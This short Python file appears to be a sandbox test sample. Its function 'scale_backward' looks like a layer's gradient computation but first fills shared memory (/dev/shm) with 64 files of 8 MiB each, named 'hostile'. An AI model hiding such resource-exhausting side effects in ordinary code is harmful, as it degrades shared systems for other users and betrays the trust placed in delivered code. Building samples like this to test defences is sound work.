"""Writes where every user may write, which is memory, until it is refused or stopped; then it would answer honestly."""

EARNS = {"scale_backward": 0}
NEEDS = "own processes"
FLAG = "calls open"


def scale_backward(dout, cache):
    for number in range(64):
        with open(f"/dev/shm/hostile-{number}", "wb", buffering=0) as file:
            file.write(bytes(8 << 20))
    x, gamma = cache
    return dout * gamma, (dout * x).sum(axis=0)
